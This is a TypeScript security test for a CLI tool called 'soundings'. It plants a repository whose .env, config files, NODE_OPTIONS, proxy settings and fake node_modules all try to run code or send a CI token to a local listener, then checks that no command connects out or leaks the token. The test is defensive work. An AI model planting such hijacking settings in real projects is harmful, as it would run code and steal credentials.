import { once } from 'node:events';
import { writeFileSync } from 'node:fs';
import type { AddressInfo } from 'node:net';
import { createServer } from 'node:net';
import { join } from 'node:path';
import { expect, onTestFinished, test } from 'vitest';
import { folderOf, runSoundings } from '../stage/process/run-soundings.ts';
import { acmeMap as acme } from '../stage/samples/acme-map.ts';

/** Somebody who hopes to be called. */
async function listener() {
  const heard: string[] = [];
  const server = createServer((socket) => {
    heard.push('a connection');
    socket.on('data', (chunk) => heard.push(chunk.toString('latin1')));
    socket.on('error', () => {});
    socket.setTimeout(1_000, () => socket.destroy());
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  onTestFinished(() => void server.close());
  return { heard, address: `127.0.0.1:${(server.address() as AddressInfo).port}` };
}

const sourcesAt = (address: string, variable: string) => `connections:
  warehouse:
    type: http
    url: http://${address}/
    headers: { authorization: "\${${variable}}" }
    queries: { mrr: /x, completed: /y, signup_rate: /z }
`;

/** A checkout in which everything that a program might take up by itself leads to the listener, or runs something. */
function baited(address: string) {
  const sources = sourcesAt(address, 'CI_DEPLOY_TOKEN');
  const run = `require('node:net').connect(${address.split(':')[1]}, '127.0.0.1');\n`;
  const environment = [
    'SOUNDINGS_SOURCES=./elsewhere.yml',
    `DATABASE_URL=postgres://u:p@${address}/x?sslmode=disable`,
    'DATA_DIR=./data',
    `GITHUB_API_URL=http://${address}`,
    `GHE_HOST=${address}`,
    'GITHUB_TOKEN=ghp_of_somebody',
    `HTTP_PROXY=http://${address}`,
    `HTTPS_PROXY=http://${address}`,
    'NODE_OPTIONS=--require ./run.cjs',
    'PGHOST=127.0.0.1',
    'ONLY_IN_DOTENV=something',
    `PGPORT=${address.split(':')[1]}`,
    '',
  ].join('\n');
  return folderOf({
    '.env': environment,
    '.env.local': environment,
    'sources.yml': sources,
    'sources.yaml': sources,
    'elsewhere.yml': sources,
    '.soundings.yml': sources,
    'soundings.config.js': run,
    'run.cjs': run,
    'node_modules/probot/index.js': run,
    'node_modules/commander/index.js': run,
    'package.json': JSON.stringify({
      main: 'run.cjs',
      probot: { apps: ['./run.cjs'] },
      imports: { '#x': './run.cjs' },
    }),
    'node.config.json': JSON.stringify({ nodeOptions: { import: ['./run.cjs'] } }),
    'app.pem': 'not a key',
    '.github/soundings.yml': acme,
    'description.md': 'Outcome: none (chore): nothing\n',
    'bet.md': 'Key result: KR1\n',
    'releases.csv': 't,name\n2026-02-01,v1\n',
    'data.csv': `t,value\n${Array.from({ length: 60 }, (_, i) => `${new Date(Date.UTC(2026, 0, 1 + i)).toISOString().slice(0, 10)},${100 + (i % 7)}\n`).join('')}`,
  });
}

/** What CI has in its environment. */
const env = { CI_DEPLOY_TOKEN: 'a-token-of-ours', SOUNDINGS_SOURCES: '', DATABASE_URL: '', GITHUB_TOKEN: '' };

const commands = [
  'validate',
  'validate --data',
  'validate --data --owner acme',
  'check --body description.md',
  'preview --body bet.md --at 2026-02-10',
  'preview --body bet.md --owner acme',
  'backtest data.csv --releases releases.csv',
  'backtest acme/shop --map .github/soundings.yml',
  'analyse data.csv --at 2026-02-10',
  'detect data.csv --window 14d',
  'init',
];

test.each(commands)(
  'in somebody else’s checkout `soundings %s` calls nobody whom the checkout names',
  async (command) => {
    const { heard, address } = await listener();
    const { stdout, stderr } = await runSoundings(command.split(' '), { cwd: baited(address), env });
    expect(heard).toEqual([]);
    expect(stdout + stderr).not.toContain(env.CI_DEPLOY_TOKEN);
  },
);

test('a file of sources that is named has the environment, but not what stands in `.env`', async () => {
  const { heard, address } = await listener();
  const cwd = baited(address);
  writeFileSync(join(cwd, 'asks.yml'), sourcesAt(address, 'ONLY_IN_DOTENV'));
  const [named, asks] = await Promise.all(
    ['sources.yml', 'asks.yml'].map((file) => runSoundings(['validate', '--data', '--sources', file], { cwd, env })),
  );
  expect(heard.join('')).toContain(env.CI_DEPLOY_TOKEN);
  expect(named?.status).toBe(0);
  expect(asks?.stderr).toContain('`ONLY_IN_DOTENV`');
});
